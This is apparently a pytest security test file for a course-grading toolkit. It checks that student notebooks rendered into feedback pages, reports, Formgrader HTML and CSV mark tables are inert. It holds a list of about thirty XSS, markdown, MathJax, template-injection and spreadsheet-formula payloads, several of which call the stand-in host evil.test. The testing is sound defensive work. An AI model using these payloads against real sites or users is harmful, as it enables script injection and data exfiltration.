"""Nothing of a student's is live on any page: thirty payloads, in every place that a page or a table shows."""

import base64
import csv
import json
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from lepton_kit.exercises.repairs import PYTHON
from lepton_kit.teach.class_report import report_page
from lepton_kit.teach.course_folder import Student
from lepton_kit.teach.feedback_pages import feedback_page
from lepton_kit.teach.formgrader import as_text, inert
from lepton_kit.teach.mark_table import Mark, write_marks
from lepton_kit.teach.marking_result import CellRun, Flag

PAYLOADS = [
    "<script>fetch('http://evil.test/1')</script>",
    "<img src=http://evil.test/2 onerror=alert(2)>",
    "<svg onload=alert(3)><script>alert(3)</script></svg>",
    "[my notes][x]\n\n[x]: javascript:alert(4)",
    "![p][y]\n\n[y]: http://evil.test/5.png",
    "[x](javascript:alert(6))",
    "![](http://evil.test/7.png)",
    "<javascript:alert(8)>",
    "<http://evil.test/9>",
    "http://evil.test/10",
    "$\\href{javascript:alert(11)}{x}$",
    "$$\\require{html}\\class{x}{\\style{background:url(http://evil.test/12)}{y}}$$",
    "\\[\\unicode{<script>alert(13)</script>}\\]",
    "\\begin{equation}\\href{http://evil.test/14}{x}\\end{equation}",
    "<iframe srcdoc='<script>parent.alert(15)</script>'></iframe>",
    "<object data='http://evil.test/16'></object><embed src=http://evil.test/16>",
    "<form action=http://evil.test/17><button>Save</button></form>",
    "<a href='data:text/html,<script>alert(18)</script>'>x</a>",
    "<style>@import url(http://evil.test/19);</style>",
    "<link rel=stylesheet href=http://evil.test/20>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/21'>",
    "<base href=http://evil.test/22>",
    "</pre></code></td></table></main><script>alert(23)</script>",
    "```\n</pre>\n```\n<script>alert(24)</script>",
    '"><script>alert(25)</script>',
    "' onmouseover='alert(26)' x='",
    "{{ ''.__class__.__mro__ }}{% for x in (1,) %}{{ x }}{% endfor %}",
    "<!--<script>alert(28)</script>--><!-- --!><script>alert(28)</script>",
    "<details open ontoggle=alert(29)><summary>x</summary></details>",
    "&lt;script&gt;alert(30)&lt;/script&gt; \x1b]8;;http://evil.test/30\x1b\\x\x1b]8;;\x1b\\ \u202e",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(31)></style></mglyph></table></mtext></math>",
    '=HYPERLINK("http://evil.test/32")',
]
ALL = "\n\n".join(PAYLOADS)
WIDGET = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {"a": {"model_module": "evil"}}}}


def attacked(notebook):
    """A copy with the payloads in every cell and every kind of output."""
    for text in PAYLOADS:
        notebook.cells.append(new_markdown_cell(text, attachments={"x": {"image/png": text}}))
        notebook.cells.append(
            new_code_cell(
                text,
                outputs=[
                    new_output("display_data", {kind: text})
                    for kind in ("text/html", "image/svg+xml", "text/markdown", "text/latex", "application/javascript")
                ]
                + [new_output("stream", text=text), new_output("error", ename=text, evalue=text, traceback=[text])]
                + [new_output("display_data", {"image/png": base64.b64encode(text.encode()).decode()})]
                + [new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}})],
            )
        )
    notebook.metadata |= {"widgets": WIDGET, "title": ALL, "authors": [{"name": ALL}]}
    return json.loads(json.dumps(notebook))


@pytest.fixture
def mark(small, canned):
    result = canned(small, "s001", b"", "INCORRECT", "INCORRECT")
    result = replace(
        result,
        questions=tuple(replace(q, message=ALL, got=ALL, expected=ALL, misconception=ALL) for q in result.questions),
        cells=tuple(CellRun(n, ALL, 0.1, ALL) for n in range(1, 12)),
        flags=tuple(Flag(kind, ALL) for kind in ("stopped", "wrong-id", ALL)),
        reason=ALL,
    )
    student = Student("s001", ALL, ALL, ALL, ALL)
    return Mark(student, {"A8.1": 0.0, "A8.2": 0.0}, 0.0, ALL, ALL, True, (ALL,), ALL, ALL, result)


@pytest.fixture
def made(small, mark):
    """The pages: feedback, report, and what Formgrader makes of our copy, by name."""
    from nbconvert import HTMLExporter
    from nbformat import reads

    shown = inert(
        json.dumps(attacked(small.solved("s001"))).encode(), json.loads(json.dumps(small.release())), mark.result
    )
    html, _ = HTMLExporter(template_name="classic").from_notebook_node(reads(shown, as_version=4))
    return {
        "feedback": feedback_page(small, mark, attacked(small.solved("s001"))),
        "report": report_page(ALL, small, [mark, replace(mark, total=None)], []),
        "formgrader": html,
    }


class Elements(HTMLParser):
    """The tags and attributes of a page, as a browser takes it apart."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def test_the_pages_hold_no_element_that_came_from_a_student(made):
    for name, page in made.items():
        elements = Elements()
        elements.feed(page[page.index("<body") :])
        live = {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "svg",
            "link",
            "meta",
            "base",
            "style",
            "math",
            "details",
        }
        assert not elements.tags & live, name
        for attribute, value in elements.attributes:
            assert not attribute.startswith("on"), name
            if attribute in ("src", "href", "action", "data", "srcdoc", "style"):
                assert value.startswith(("#", "data:image/", "width:")), (name, value)


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_markdown_becomes_one_line_without_a_sign_that_means_anything(text):
    shown = as_text(text)
    assert re.fullmatch(r"<pre>([^\W_]|[ ]|&#\d+;)*</pre>", shown)


def test_what_formgrader_gets_is_code_text_and_pictures_only(small, mark):
    release = json.loads(json.dumps(small.release()))
    shown = json.loads(inert(json.dumps(attacked(small.solved("s001"))).encode(), release, mark.result))
    assert shown["metadata"] == PYTHON
    for cell in shown["cells"]:
        assert set(cell) <= {"id", "cell_type", "metadata", "source", "execution_count", "outputs"}
        assert set(cell["metadata"]) <= {"nbgrader"}
        for output in cell.get("outputs", ()):
            assert output["output_type"] == "stream" or set(output["data"]) == {"image/png"}


def test_no_cell_of_a_table_is_a_formula_or_breaks_its_line(course, small, mark):
    for path in write_marks(course, small, [mark]):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                assert not any(cell[:1] in ("=", "+", "@", "\t") or "\n" in cell for cell in row)


@pytest.mark.browser
def test_a_browser_runs_nothing_and_asks_for_nothing(made, browser, tmp_path):
    asked, dialogs = [], []
    for name, html in made.items():
        file = tmp_path / f"{name}.html"
        file.write_text(html, encoding="utf-8")
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(file.as_uri())
        for summary in page.query_selector_all("summary, a[href^='javascript']"):
            summary.click()
        page.wait_for_timeout(500)
        page.close()
    assert dialogs == []
    assert [url for url in asked if "evil.test" in url] == []
